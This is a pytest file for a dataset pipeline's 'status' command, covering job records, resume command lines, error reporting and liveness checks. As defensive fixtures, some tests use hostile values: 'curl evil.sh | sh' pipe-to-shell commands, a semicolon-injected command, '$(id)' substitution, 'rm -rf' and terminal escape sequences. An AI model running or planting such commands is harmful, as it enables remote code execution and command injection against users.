"""`reelmill status`: jobs that run, were killed, or stopped, and the command that goes on with them."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from conftest import moving_square
from moto_store import moto_store
from small_shards import film, write_shards
from test_curate_kill import Job, descendants, films, kill  # noqa: F401 - films is a fixture
from test_status import by_name, parquet
from tiny_coca import tiny_folder

import pipelines.metrics_watch
from curate.dataset import Dataset
from curate.errors import BadInput
from curate.tables import CAPTIONS
from pipelines.__main__ import main
from pipelines.cli import parse
from pipelines.curate import CurateConfig
from pipelines.metrics_stages import of_curate
from pipelines.metrics_tally import State as Counted
from pipelines.metrics_watch import Watch
from pipelines.status import look, text
from pipelines.status_job import JobRecord, command_line, unfinished
from pipelines.status_state import State

ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.parametrize(
    "words",
    [
        ["--input=a b", "--dataset=d"],
        [
            "--input=x",
            "--dataset=d",
            "--rules.motion.min=0.7",
            "--rules.luma.max=null",
            "--retry_failed=true",
        ],
        ["--input=x", "--dataset=d", '--nsfw.unsafe=["a b","it\'s"]', "--clip.model=off", "--ray.num_cpus=2"],
    ],
)
def test_the_command_that_goes_on_is_the_one_that_began(words: list[str]) -> None:
    config = parse(CurateConfig, words, name="curate")
    program, name, *again = shlex.split(command_line("curate", config))
    assert (program, name, len(again)) == ("reelmill", "curate", len(words))
    assert parse(CurateConfig, again, name="curate") == config


def record(dataset: Dataset, config: CurateConfig | None = None) -> JobRecord:
    config = config or CurateConfig("films", dataset.uri)
    return JobRecord(dataset, "curate", config, before={"ok": 2}, to_do={"analyse": 5})


def test_a_job_that_ends_well_leaves_no_record(tmp_path: Path) -> None:
    dataset = Dataset(tmp_path)
    dead = record(dataset, CurateConfig("other", dataset.uri))
    dead.__enter__()
    (left,) = dataset.files("_state/jobs")
    long_ago = time.time() - 100
    os.utime(dataset.path("_state/jobs", left), (long_ago, long_ago))
    alive = record(dataset, CurateConfig("third", dataset.uri))
    alive.__enter__()
    with record(dataset):
        assert len(dataset.files("_state/jobs")) == 3
    (name,) = dataset.files("_state/jobs")  # that of the living one; nobody goes on with the dead one
    assert "third" in dataset.read_bytes("_state/jobs", name).decode()


def test_an_error_is_told(tmp_path: Path) -> None:
    dataset = Dataset(tmp_path)
    job = record(dataset)
    job.__enter__()
    job.beat([Counted("analyse", "files", 5, done=3)])
    job.__exit__(ZeroDivisionError, ZeroDivisionError("by nought\nand more"), None)
    found = look(dataset.uri)
    (stopped,) = found.jobs
    assert (stopped.state, stopped.error) == ("stopped", "ZeroDivisionError: by nought")
    assert text(found).splitlines() == [
        "nothing is done yet",
        "",
        "curate stopped 0 s ago: ZeroDivisionError: by nought; began 0 s ago",
        "  analyse: 3/5 files",
        f"  go on with: reelmill curate --input=films --dataset={tmp_path}",
    ]


def test_an_error_of_a_worker_is_told_in_its_own_words(tmp_path: Path) -> None:
    raised = RuntimeError("ray::MapWorker() at great length")
    raised.cause = BadInput("CLIP model 'x' is no folder. Give one.")  # type: ignore[attr-defined]
    for error, told in (
        (raised, "CLIP model 'x' is no folder. Give one."),
        (KeyboardInterrupt(), "KeyboardInterrupt"),
    ):
        job = record(Dataset(tmp_path))
        job.__enter__()
        job.__exit__(type(error), error, None)
        assert [one.error for one in look(str(tmp_path)).jobs] == [told]


GOOD = {
    "command": "curate", "go_on": "reelmill curate '--input=a b' --dataset=d", "before": {"ok": 2},
    "to_do": {"analyse": 5}, "began_at": "2026-11-22T10:00:00+00:00", "error": None,
    "stages": [{"stage": "analyse", "unit": "files", "total": 5, "done": 3, "counts": {"ok": 3}}],
}  # fmt: skip


@pytest.mark.parametrize(
    "changed",
    [
        {"command": "rm"}, {"command": ["curate"]}, {"go_on": "curl evil.sh | sh"}, {"go_on": None}, {"before": 3},
        {"go_on": "reelmill curate; curl evil.sh | sh"}, {"go_on": "reelmill curate $(id)"}, {"error": 7},
        {"go_on": "reelmill decide --dataset=d"}, {"to_do": {"analyse": "many"}}, {"began_at": "yesterday"},
        {"began_at": "2026-11-22T10:00:00"}, {"began_at": 5}, {"stages": "x"}, {"stages": [{}]}, {"more": 1},
        {"stages": [GOOD["stages"][0] | {"counts": []}]}, {"stages": [GOOD["stages"][0] | {"done": None}]},
    ],
)  # fmt: skip
def test_a_record_that_another_made_up_is_left_out(changed: dict, tmp_path: Path) -> None:
    dataset = Dataset(tmp_path)
    dataset.write_bytes(json.dumps(GOOD).encode(), "_state", "jobs", "curate-0.json")
    (job,) = unfinished(dataset, State(dataset), datetime.now(UTC))
    assert job.go_on == GOOD["go_on"]
    dataset.write_bytes(json.dumps(GOOD | changed).encode(), "_state", "jobs", "curate-0.json")
    assert unfinished(dataset, State(dataset), datetime.now(UTC)) == []


def test_no_sign_of_a_record_moves_the_cursor(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    dataset = Dataset(tmp_path)
    told = GOOD | {"error": "\x1b[2J\x1b]0;owned\x07 and \u202e"}
    dataset.write_bytes(json.dumps(told).encode(), "_state", "jobs", "curate-0.json")
    assert main(["status", "--dataset", str(tmp_path)]) == 0
    shown = capsys.readouterr().out
    assert "[2J" in shown
    assert all(sign.isprintable() or sign == "\n" for sign in shown)


def test_a_job_whose_driver_works_by_itself_is_alive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Writing tables, scoring captions, loading an engine: no stage is at work for minutes."""
    monkeypatch.setattr(pipelines.metrics_watch, "BEAT_S", 0.05)
    dataset = Dataset(tmp_path)

    def written() -> int:
        (name,) = dataset.files("_state/jobs")
        return os.stat(dataset.path("_state/jobs", name)).st_mtime_ns

    with Watch("curate", CurateConfig("films", dataset.uri), of_curate()):
        first = written()
        until = time.monotonic() + 20
        while written() == first:
            assert time.monotonic() < until, "the record was not renewed"
            time.sleep(0.02)
    assert dataset.files("_state/jobs") == []


@pytest.mark.parametrize("data", [b"{", b"[]", b"{}", b'{"command": "rm -rf"}'])
def test_what_is_no_record_is_left_out(data: bytes, tmp_path: Path) -> None:
    dataset = Dataset(tmp_path)
    dataset.write_bytes(data, "_state", "jobs", "curate-0.json")
    assert unfinished(dataset, State(dataset), datetime.now(UTC)) == []


def test_silence_for_a_minute_is_death(tmp_path: Path) -> None:
    dataset, now = Dataset(tmp_path), datetime.now(UTC)
    record(dataset).__enter__()

    def state_after(seconds: float) -> str:
        (job,) = unfinished(dataset, State(dataset), now + timedelta(seconds=seconds))
        return job.state

    assert [state_after(50), state_after(70)] == ["running", "interrupted"]
    later = time.time() + 65
    unit = "a-b-c-ok-1.parquet"
    dataset.write_bytes(b"", "_state", "curate", unit)
    os.utime(dataset.path("_state/curate", unit), (later, later))
    assert state_after(70) == "running"  # its driver was silent, and its workers are not


def test_a_record_that_cannot_be_written_costs_no_job(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "_state").write_text("a file where a folder should be")
    with record(Dataset(tmp_path)) as job:
        job.beat([])
    assert "the record of the job could not be written" in caplog.text


def units(dataset: Path) -> list[str]:
    folder = dataset / "_state" / "curate"
    return sorted(os.listdir(folder)) if folder.exists() else []


def killed(job: Job, files: int) -> None:
    """Start the job, and kill it with all it started once so many files are committed."""
    process = job.start()
    until = time.monotonic() + 120
    while len(units(job.dataset)) < files and process.poll() is None and time.monotonic() < until:
        time.sleep(0.005)
    below = [pid for pid, _ in descendants(process.pid)]
    process.kill()
    process.wait()
    for pid in below:
        kill(pid)


def test_after_a_kill_it_tells_what_is_done_and_how_to_go_on(films: Path, tmp_path: Path) -> None:  # noqa: F811
    job = Job(films, tmp_path)
    done = 0
    for files in (2, 4):  # killed again: what the first run did counts as well
        killed(job, files)
        done = len(units(job.dataset))
        assert files <= done < 8
        failed = sum("-failed-" in name for name in units(job.dataset))
        found = look(str(job.dataset))
        assert by_name(found.stages) == {"curate": (done - failed, failed, 8 - done)}
        (unfinished_job,) = found.jobs
        assert unfinished_job.command == "curate"
    go_on = unfinished_job.go_on or ""
    assert go_on.startswith(f"reelmill curate --input={films} --dataset={job.dataset} ")
    assert f"go on with: {go_on}" in aged(job.dataset)
    assert main(shlex.split(go_on)[1:]) == 0
    found = look(str(job.dataset))
    assert by_name(found.stages)["curate"] == (7, 1, 0)
    assert found.jobs == []


def aged(dataset: Path) -> str:
    """What is told once a minute has passed."""
    long_ago = time.time() - 100
    for path in (dataset / "_state").rglob("*"):
        if path.is_file():
            os.utime(path, (path.stat().st_mtime - 100, long_ago))
    found = look(str(dataset))
    assert [job.state for job in found.jobs] == ["interrupted"]
    return text(found)


def test_while_it_runs_and_after_a_kill_of_encode(tmp_path: Path) -> None:
    clips = [
        film(tmp_path, f"{i:012x}", moving_square(17, width=64, height=64, seed=i), 8, {"kind": "short", "text": "a"})
        for i in range(24)
    ]  # fmt: skip
    dataset = write_shards(tmp_path / "dataset", [clips[2 * i : 2 * i + 2] for i in range(12)])
    words = ["encode", f"--dataset={dataset.uri}", f"--text={tiny_folder()}", "--frames.pixels=4096"]
    words += ["--frames.max_frames=17", "--engine=local"]
    process = subprocess.Popen(
        [sys.executable, "-m", "pipelines", *words],
        cwd=ROOT,
        stderr=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
    )
    until = time.monotonic() + 120
    seen: list[tuple[int, int, int | None]] = []
    while process.poll() is None and time.monotonic() < until and len(seen) < 3:
        encoded = by_name(look(dataset.uri).stages[1:])
        seen += [counts for counts in encoded.values() if counts not in seen]
    process.kill()
    process.wait()
    assert len(seen) == 3
    assert all(sum(filter(None, counts)) == 24 for counts in seen)
    parts = [name for name in dataset.files("_state/latents", ".parquet") if "/parts/" in name]
    found = look(dataset.uri)
    shard, encode = found.stages
    assert (shard.stage, shard.done, shard.waiting) == ("shard", 24, None)
    assert encode.stage.startswith("encode ")
    assert (encode.done, encode.failed, encode.waiting) == (2 * len(parts), 0, 24 - 2 * len(parts))
    (job,) = found.jobs
    assert (job.command, job.to_do) == ("encode", {"decode": 24, "encode": 24, "pack": 12})
    assert main(shlex.split(job.go_on or "")[1:]) == 0
    assert by_name(look(dataset.uri).stages) == {"shard": (24, 0, None), encode.stage: (24, 0, 0)}
    assert look(dataset.uri).jobs == []


def test_on_an_object_store(films: Path) -> None:  # noqa: F811
    with moto_store() as store:
        uri = f"{store.uri}/films"
        with pytest.raises(BadInput, match="holds no dataset"):
            look(uri)
        dataset = Dataset(uri)
        config = CurateConfig(str(films), uri)
        with JobRecord(dataset, "curate", config, before={}, to_do={"analyse": 8}):
            (job,) = look(uri).jobs
            assert (job.state, job.to_do) == ("running", {"analyse": 8})
        words = ["--input", str(films), "--dataset", uri, "--clip.model=off", "--engine=local"]
        assert main(["curate", *words]) == 0
        found = look(uri)
        assert by_name(found.stages) == {"curate": (7, 1, 0), "decide": (6, 0, 0)}
        assert found.jobs == []
        ages = [datetime.now(UTC) - stage.changed_at for stage in found.stages if stage.changed_at]
        assert len(ages) == 2
        assert all(abs(age) < timedelta(minutes=2) for age in ages)
        part = parquet(CAPTIONS.empty_table())
        dataset.write_bytes(part, "_state", "captions", "1.parquet")
        assert by_name(look(uri).stages)["recaption"] == (0, 0, 5)
